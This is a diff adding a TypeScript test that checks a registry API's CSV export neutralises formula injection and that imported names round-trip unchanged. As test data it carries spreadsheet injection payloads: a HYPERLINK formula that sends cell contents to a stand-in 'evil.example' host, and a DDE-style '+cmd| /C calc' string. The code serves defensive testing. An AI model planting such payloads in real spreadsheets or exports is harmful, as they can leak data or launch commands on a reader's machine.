@@ -135,6 +135,26 @@ describe('injection strings are data, never code', () => {
     expect(letters.items.some((l) => l.payload.includes('DROP TABLE readings') && /fault/.test(l.reason))).toBe(true);
   });
 
+  it('exports formula-like text to CSV as text (no formula injection into a regulator\'s spreadsheet), and imports it back unchanged', async () => {
+    const base = entitiesOf({ id: 'yq-kangzhuang-h007', villageId: 'yq-kangzhuang', operatorOrgId: 'op-beinuan' });
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', "'=already quoted", 'plain name'];
+    for (const name of names) {
+      expect((await http.request(fx.sessions.operator, 'PUT', '/api/v1/registry/sites', { json: { items: [{ ...base.sites[0], name }] } })).status).toBe(200);
+      const exp = (await http.request(fx.sessions.regulator, 'GET', '/api/v1/registry/export?format=csv')).json as { files: { name: string; content: string }[] };
+      const csv = exp.files.find((f) => f.name === 'sites.csv')?.content ?? '';
+      const cells = csv.split('\n').flatMap((line) => line.split(',')).map((c) => c.replace(/^"/, ''));
+      expect(cells.filter((c) => /^[=+\-@]/.test(c)), name).toEqual([]);
+      const file = { name: 'sites.csv', contentBase64: Buffer.from(csv).toString('base64') };
+      const back = await http.request(fx.sessions.operator, 'POST', '/api/v1/registry/import', { json: { files: [file], dryRun: false } });
+      // The regulator's export holds the competitor's sites too: the operator may import only its own rows.
+      expect([200, 403]).toContain(back.status);
+      const own = csv.split('\n').filter((l, i) => i === 0 || l.startsWith('yq-kangzhuang-h007,')).join('\n');
+      const mine = await http.request(fx.sessions.operator, 'POST', '/api/v1/registry/import', { json: { files: [{ name: 'sites.csv', contentBase64: Buffer.from(own).toString('base64') }] } });
+      expect(mine.status, mine.text).toBe(200);
+      expect(((await http.request(fx.sessions.operator, 'GET', '/api/v1/sites/yq-kangzhuang-h007')).json as { site: { name: string } }).site.name).toBe(name);
+    }
+  });
+
   it('leaves every table intact and runs no command', async () => {
     const after = await tableState(fx.admin);
     expect(after.readings).toBeGreaterThanOrEqual(baseline.readings);
